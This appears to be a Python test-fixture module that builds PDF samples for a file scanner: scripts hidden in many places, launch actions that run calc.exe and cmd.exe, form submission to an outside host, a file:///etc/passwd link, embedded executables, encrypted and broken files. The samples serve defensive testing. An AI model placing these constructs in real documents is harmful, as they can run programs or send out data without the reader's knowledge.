"""PDFs that act, carry, are locked, or are broken."""

import io
from collections.abc import Callable
from typing import Final

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.factories.files import picture

Change = Callable[[pikepdf.Pdf], None]
RECT: Final = [0, 0, 9, 9]


def pdf(pages: int = 1, change: Change | None = None, **options: object) -> bytes:
    """A PDF of blank pages, changed as the test wants."""
    with pikepdf.new() as made:
        for _page in range(pages):
            made.add_blank_page()
        if change:
            change(made)
        written = io.BytesIO()
        made.save(written, **options)
    return written.getvalue()


def raw(*objects: bytes, root: int = 1, trailer: bytes = b"", version: bytes = b"1.7") -> bytes:
    """A PDF written by hand: objects numbered from 1, a table of them, and a trailer."""
    written, places = io.BytesIO(b"%PDF-" + version + b"\n"), []
    written.seek(0, io.SEEK_END)
    for number, content in enumerate(objects, 1):
        places.append(written.tell())
        written.write(b"%d 0 obj\n" % number + content + b"\nendobj\n")
    body = written.getvalue()
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    table += b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer\n<</Size %d/Root %d 0 R%s>>\nstartxref\n%d\n%%%%EOF\n"
    return body + table + end % (len(objects) + 1, root, trailer, len(body))


def stream(content: bytes, about: bytes = b"") -> bytes:
    """A stream object's body."""
    return b"<</Length %d%s>>\nstream\n" % (len(content), about) + content + b"\nendstream"


CATALOG: Final = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES: Final = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE: Final = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>"


def _script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _annotation(subtype: str, **more: object) -> Change:
    def change(made: pikepdf.Pdf) -> None:
        made.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=RECT, **more)])

    return change


def _link(**action: object) -> Change:
    """A link that does this."""
    return _annotation("/Link", A=Dictionary(**action))


# Actions ----------------------------------------------------------------------------------------------


def _opening(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = _script()


def _closing(made: pikepdf.Pdf) -> None:
    made.Root.AA = Dictionary(WC=_script())


def _by_name(made: pikepdf.Pdf) -> None:
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), made.make_indirect(_script())])))


def _on_a_page(made: pikepdf.Pdf) -> None:
    made.pages[0].AA = Dictionary(O=_script())


def _on_the_last_page(made: pikepdf.Pdf) -> None:
    made.pages[-1].AA = Dictionary(C=_script())


def _in_a_field(made: pikepdf.Pdf) -> None:
    field = Dictionary(FT=Name.Tx, T=String("a"), AA=Dictionary(K=_script()))
    made.Root.AcroForm = Dictionary(Fields=Array([made.make_indirect(field)]))


def _in_a_bookmark(made: pikepdf.Pdf) -> None:
    item = made.make_indirect(Dictionary(Title=String("Result"), A=_script()))
    made.Root.Outlines = made.make_indirect(Dictionary(First=item, Last=item, Count=1))


def _as_a_stream(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=made.make_stream(b"app.alert(1)"))


def _after_another(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.Named, N=Name.NextPage, Next=Array([Dictionary(S=Name.Hide), _script()]))


def _far_below(made: pikepdf.Pdf) -> None:
    below = _script()
    for _step in range(40):
        below = Dictionary(Next=below, S=Name.Named)
    made.Root.OpenAction = below


SCRIPTS: Final[dict[str, Change]] = {
    "when opened": _opening, "when closed": _closing, "by name": _by_name, "on a page": _on_a_page,
    "on the last page": _on_the_last_page, "in a field": _in_a_field, "in a bookmark": _in_a_bookmark,
    "as a stream": _as_a_stream, "after another action": _after_another, "far below": _far_below,
    "in a link": _annotation("/Link", A=_script()),
    "in a button": _annotation("/Widget", AA=Dictionary(D=_script())),
}  # fmt: skip

ACTIONS: Final[dict[str, Change]] = {
    "starts a program": _link(S=Name.Launch, F=String("calc.exe")),
    "starts a program of Windows": _link(S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc"))),
    "sends a form": _link(S=Name.SubmitForm, F=String("http://collects.example")),
    "fills a form from outside": _link(S=Name.ImportData, F=String("a.fdf")),
    "opens a file within": _link(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("a.pdf"))),
    "opens a file elsewhere": _link(S=Name.GoToR, F=String("\\\\collects.example\\share\\a.pdf")),
    "opens a file of this machine": _link(S=Name.URI, URI=String("file:///etc/passwd")),
    "opens a script as an address": _link(S=Name.URI, URI=String(" JavaScript:alert(1)")),
    "plays a film": _link(S=Name.Movie),
    "plays a sound": _link(S=Name.Sound),
    "plays what it renders": _link(S=Name.Rendition, OP=0),
    "runs a rich medium": _link(S=Name.RichMediaExecute),
    "shows a rich medium": _annotation("/RichMedia"),
    "shows a screen": _annotation("/Screen"),
    "shows a model in space": _annotation("/3D"),
}


# What it carries --------------------------------------------------------------------------------------


def _embedded(made: pikepdf.Pdf) -> None:
    made.attachments["run.exe"] = b"MZ"


def _on_a_note(made: pikepdf.Pdf) -> None:
    held = made.make_stream(b"MZ", Type=Name.EmbeddedFile)
    _annotation("/FileAttachment", FS=Dictionary(EF=Dictionary(F=held)))(made)


def _associated(made: pikepdf.Pdf) -> None:
    made.Root.AF = Array([made.make_indirect(Dictionary(Type=Name.Filespec, F=String("a.xml")))])


def _portfolio(made: pikepdf.Pdf) -> None:
    _embedded(made)
    made.Root.Collection = Dictionary(View=Name.D)


def _form_of_a_program(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = Dictionary(XFA=made.make_stream(b"<xdp/>"), Fields=Array([]))


def _form_in_parts(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = Dictionary(XFA=Array([String("xdp:xdp"), made.make_stream(b"<xdp/>")]), Fields=Array([]))


def _locked(**how: object) -> Callable[[], bytes]:
    return lambda: pdf(encryption=pikepdf.Encryption(owner="o", **how))


def _scanned(pages: int = 3) -> bytes:
    """A PDF of photos."""

    def change(made: pikepdf.Pdf) -> None:
        for page in made.pages:
            about = {"Type": Name.XObject, "Subtype": Name.Image, "Width": 400, "Height": 300, "BitsPerComponent": 8}
            image = made.make_stream(
                picture("JPEG", (400, 300)), ColorSpace=Name.DeviceRGB, Filter=Name.DCTDecode, **about
            )
            page.Resources = Dictionary(XObject=Dictionary(Im0=image))
            page.Contents = made.make_stream(b"q 400 0 0 300 0 0 cm /Im0 Do Q")

    return pdf(pages, change)


def _cut(share: int) -> Callable[[], bytes]:
    """The first hundredths of a PDF with photos."""
    return lambda: (whole := _scanned())[: len(whole) * share // 100]


PLAIN: Final = (CATALOG, PAGES, PAGE, stream(b""))

BROKEN: Final[dict[str, Callable[[], bytes]]] = {
    "without a page": lambda: pdf(0),
    "that is a beginning alone": lambda: b"%PDF-1.7\n",
    "that is a beginning and an end": lambda: b"%PDF-1.7\n%%EOF\n",
    "of noise": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40,
    "without a root": lambda: raw(*PLAIN, root=9),
    "whose root is a page": lambda: raw(*PLAIN, root=3),
    "whose pages are their own child": lambda: raw(CATALOG, b"<</Type/Pages/Kids[2 0 R]/Count 1>>"),
    "whose pages are a number": lambda: raw(CATALOG, b"7"),
    "whose page is its own parent's parent": lambda: raw(
        CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Pages/Kids[2 0 R]/Parent 2 0 R/Count 1>>"
    ),
    "locked in a way nobody knows": lambda: raw(*PLAIN, trailer=b"/Encrypt<</Filter/Mine/V 9>>/ID[<00><00>]"),
    "with a page of the web inside its first line": lambda: b"%PDF-<script>alert(1)</script>",
    **{f"cut off at {share} %": _cut(share) for share in (2, 10, 25, 40, 55, 70, 85, 99)},
}

DOCUMENTS: Final[dict[str, tuple[Callable[[], bytes], str]]] = {
    **{f"PDF with a script {where}": (lambda c=change: pdf(2, c), "pdf-acts") for where, change in SCRIPTS.items()},
    **{f"PDF that {what}": (lambda c=change: pdf(1, c), "pdf-acts") for what, change in ACTIONS.items()},
    "PDF with a script under a name in disguise": (
        lambda: raw(b"<</Type/Catalog/Pages 2 0 R/OpenAction<</#53/Java#53cript/J#53(x)>>>>", *PLAIN[1:]),
        "pdf-acts",
    ),
    "PDF with a script among packed objects": (
        lambda: pdf(1, _by_name, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "pdf-acts",
    ),
    "PDF with a script that nothing leads to": (
        lambda: raw(*PLAIN, b"<</S/JavaScript/JS(app.alert(1))>>"),
        "pdf-acts",
    ),
    "PDF with a script in its trailer": (lambda: raw(*PLAIN, trailer=b"/A<</S/JavaScript/JS(x)>>"), "pdf-acts"),
    "PDF with a file in it": (lambda: pdf(change=_embedded), "pdf-carries"),
    "PDF with a file on a note": (lambda: pdf(change=_on_a_note), "pdf-carries"),
    "PDF with a file beside it": (lambda: pdf(change=_associated), "pdf-carries"),
    "PDF that is a folder of files": (lambda: pdf(change=_portfolio), "pdf-carries"),
    "PDF that is a program's form": (lambda: pdf(change=_form_of_a_program), "pdf-form"),
    "PDF that is a program's form in parts": (lambda: pdf(change=_form_in_parts), "pdf-form"),
    "PDF locked with a password": (_locked(user="u"), "pdf-locked"),
    "PDF locked against changes": (_locked(user=""), "pdf-locked"),
    "PDF locked as of old": (_locked(user="u", R=3, aes=False, metadata=False), "pdf-locked"),
    "PDF of 51 pages": (lambda: pdf(51), "pdf-pages"),
    "PDF of 3000 pages": (lambda: pdf(3000), "pdf-pages"),
    **{f"PDF {how}": (make, "pdf-damaged") for how, make in BROKEN.items()},
}
